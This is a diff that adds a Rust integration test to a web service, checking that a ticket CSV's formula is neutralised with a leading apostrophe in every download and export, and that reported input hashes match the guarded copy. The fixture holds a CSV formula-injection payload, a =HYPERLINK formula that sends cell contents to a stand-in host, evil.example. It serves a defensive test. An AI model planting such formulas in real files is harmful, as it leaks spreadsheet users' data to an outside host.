@@ -691,6 +691,49 @@ async fn healthy_program(api: &Api) -> String {
     path
 }
 
+#[tokio::test]
+async fn a_formula_someone_typed_into_a_ticket_is_guarded_in_every_download_and_decides_alike() {
+    let api = demo_with_roster().await;
+    // A caller's description, as a ticketing system exports it.
+    let tickets = "number,opened_at,caller,category,priority,short_description\n\
+                   INC001,2027-01-12 09:00,p001@example.org,Intune,3,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\"\n\
+                   INC002,2027-01-12 10:00,p002@example.org,Intune,4,Portal start niet\n";
+    let r = upload(&api, "tickets", tickets, "").await;
+    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
+    let before = get(&api, &format!("{DEMO}/readiness?at=2027-02-01&lang=en")).await;
+    assert_eq!(before.status, StatusCode::OK, "{:?}", before.body);
+    for bytes in [
+        get(&api, &format!("{DEMO}/files/tickets")).await.bytes,
+        (unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes).into_iter())
+            .find(|(n, _)| n == "tickets.csv")
+            .unwrap()
+            .1,
+    ] {
+        let text = String::from_utf8(bytes).unwrap();
+        assert!(text.contains("\"'=HYPERLINK("), "{text}");
+        assert!(
+            !text.contains(",=HYPERLINK(") && !text.contains(",\"=HYPERLINK("),
+            "{text}"
+        );
+    }
+    // The report the server gives is the one of the data directory it exports (the guarded
+    // copy): the hashes it names are the copy's.
+    let files = unzip(&get(&api, &format!("{DEMO}/export.zip")).await.bytes);
+    let expected: Vec<String> = (files.iter())
+        .filter(|(n, _)| !n.starts_with("history/"))
+        .map(|(n, b)| format!("{n}={}", sha256(b)))
+        .collect();
+    assert_eq!(
+        before.headers["wavegate-inputs"],
+        expected.join(", ").as_str()
+    );
+    assert_eq!(
+        before.body["data"]["tickets"], 2,
+        "{:?}",
+        before.body["data"]
+    );
+}
+
 /// The list with `?segments=true`: each evaluation with its report's segments, as the report
 /// has them, for a viewer too; without it the list stays as small as it was.
 #[tokio::test]
